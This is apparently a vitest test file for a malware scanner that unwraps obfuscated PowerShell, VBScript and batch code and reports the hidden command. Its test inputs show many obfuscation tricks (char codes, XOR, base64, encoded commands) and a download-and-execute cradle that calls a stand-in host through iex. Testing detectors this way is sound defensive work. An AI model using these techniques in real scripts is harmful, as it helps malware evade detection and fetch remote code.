/** PowerShell and VBScript are folded to the command that they run, and the report shows it. */
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { foldCode } from '../../../lib/engines/static/scripts/fold/fold-code.ts';
import { reportOn } from './analyse.ts';

const COMMAND = 'Start-Process calc.exe; Invoke-WebRequest http://files.example.invalid/a';
const wide = Buffer.from(COMMAND, 'utf16le').toString('base64');
const packed = gzipSync(COMMAND).toString('base64');
const reversed = [...COMMAND].reverse().join('');
const codes = [...COMMAND].map((char) => char.charCodeAt(0));
const half = Math.floor(COMMAND.length / 2);
const [first, second] = [COMMAND.slice(0, half), COMMAND.slice(half)];

async function shown(code: string, name: string): Promise<string> {
  const { findings } = await reportOn(Buffer.from(code), name);
  return findings.find(({ id }) => id === 'code-command')?.evidence ?? '';
}

test.each([
  ['variables that are joined', `$a = '${first}'; $b = '${second}'; iex ($a + $b)`],
  ['a text that grows', `$a = '${first}'\n$a += '${second}'\nInvoke-Expression $a`],
  ['a format', `$f = "{1}{0}" -f '${second}','${first}'; iex $f`],
  ['a format with variables', `$x='${second}';$y='${first}';iex ('{1}{0}' -f $x,$y)`],
  ['names with backticks', `i\`eX ('${first}'+'${second}')`],
  ['a name that is put together', `& ('i'+'ex') ('${first}'+'${second}')`],
  ['a pipe', `('${first}'+'${second}') | iex`],
  ['reversed letters', `$r = '${reversed}'; iex (-join $r[-1..-${COMMAND.length}])`],
  ['letters by number', `iex (-join ([char[]](${codes.join(',')})))`],
  ['letters by number, each by itself', `$c = [char]${codes.join('+[char]')}; iex $c`],
  [
    'numbers with a key',
    `$k = ${codes.map((code) => code ^ 7).join(',')} | % { [char]($_ -bxor 7) }; iex ($k -join '')`,
  ],
  ['replacements', `iex ('${COMMAND.replaceAll('e', '#@')}'.Replace('#@','e'))`],
  ['a replacement by an operator', `iex ('${COMMAND.replaceAll('e', '~~')}' -replace '~~','e')`],
  ['base64', `$b='${wide}'; iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)))`],
  [
    'base64 in pieces',
    `$b='${wide.slice(0, 40)}';$c='${wide.slice(40)}';iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($b+$c)))`,
  ],
  [
    'packed base64',
    `$b='${packed.slice(0, 30)}'+'${packed.slice(30)}';iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))`,
  ],
  ['an encoded command', `$e = '${wide.slice(0, 20)}' + '${wide.slice(20)}'; Start-Process "powershell -enc $e"`],
])('PowerShell with %s', async (_, code) => {
  expect(await shown(code, 'a.ps1')).toContain(COMMAND);
});

const START = 'CreateObject("WScript.Shell").Run';
const chars = (text: string) => [...text].map((char) => `Chr(${char.charCodeAt(0)})`).join(' & ');
test.each([
  ['variables that are joined', `a = "${first}"\r\nb = a & "${second}"\r\n${START} b, 0`],
  ['letters by number', `c = ${chars(first)}\r\n${START} c & "${second}"`],
  ['reversed letters', `r = "${reversed}"\r\n${START} StrReverse(r)`],
  ['replacements', `r = "${COMMAND.replaceAll('e', '#@')}"\r\n${START} Replace(r, "#@", "e"), 0, False`],
  ['a list', `p = Array("${first}", "${second}")\r\n${START} Join(p, "")`],
  ['parts', `s = "xx${first}yy${second}"\r\n${START} Mid(s, 3, ${first.length}) & Right(s, ${second.length})`],
  ['code that is run', `x = "${first}" : x = x & "${second}" : ExecuteGlobal x`],
  [
    'an encoded command',
    `e = "${wide.slice(0, 20)}" & "${wide.slice(20)}"\r\n${START} "powershell -nop -w hidden -e " & e`,
  ],
])('VBScript with %s', async (_, code) => {
  expect(await shown(code, 'a.vbs')).toContain(COMMAND);
});

test('a batch file with an encoded command', async () => {
  expect(await shown(`@echo off\r\npowershell -EncodedCommand ${wide}\r\n`, 'a.bat')).toContain(COMMAND);
});

test('a command that was hidden counts like one that was not', async () => {
  const code = `$a='Down';$b='loadString';$c='New-Obj'+'ect Net.Web'+'Client';iex ("($c)." + $a + $b + "('http://files.example.invalid/a')")`;
  const { level, findings } = await reportOn(Buffer.from(code), 'a.ps1');
  expect(level).toBe('malicious');
  expect(findings.map(({ id }) => id)).toContain('code-downloads');
});

describe('ordinary scripts', () => {
  test.each([
    [
      'a.ps1',
      '$name = "report-" + (Get-Date).ToString("yyyy") + ".csv"\nGet-Process | Export-Csv $name\nWrite-Host ("{0} rows" -f 5)',
    ],
    ['b.ps1', 'param($Path)\n$files = Get-ChildItem $Path | % { $_.FullName.Replace("a","b") }\n$files -join ","'],
    ['c.vbs', 'Dim n\r\nn = "Report " & Year(Now) & ".txt"\r\nMsgBox "Saved " & n'],
    ['d.vbs', 'For i = 1 To 3\r\ns = s & Replace("a;b", ";", vbCrLf)\r\nNext\r\nWScript.Echo s'],
  ])('%s shows no command and is not suspicious', async (name, code) => {
    const { level, findings } = await reportOn(Buffer.from(code), name);
    expect(findings.map(({ id }) => id)).not.toContain('code-command');
    expect(['benign', 'unknown']).toContain(level);
  });
});

test.each([
  ['nesting', '('.repeat(60_000)],
  ['casts', '[char]'.repeat(30_000)],
  ['lists', `$a=1..60000;$b=$a+$a+$a;${'$b=$b+$b;'.repeat(200)}`],
  ['a text that doubles', `$a='abcdefgh';${'$a=$a+$a;'.repeat(500)}`],
  ['pipes', `1..60000${' | % { $_ }'.repeat(300)}`],
  ['quotes', "'".repeat(99_999)],
  ['names', '${'.repeat(60_000)],
])('%s end at a limit', (_, code) => {
  expect(foldCode(code, 'powershell')?.texts.length).toBeLessThan(400);
  expect(foldCode(code, 'basic')?.texts.length).toBeLessThan(400);
});
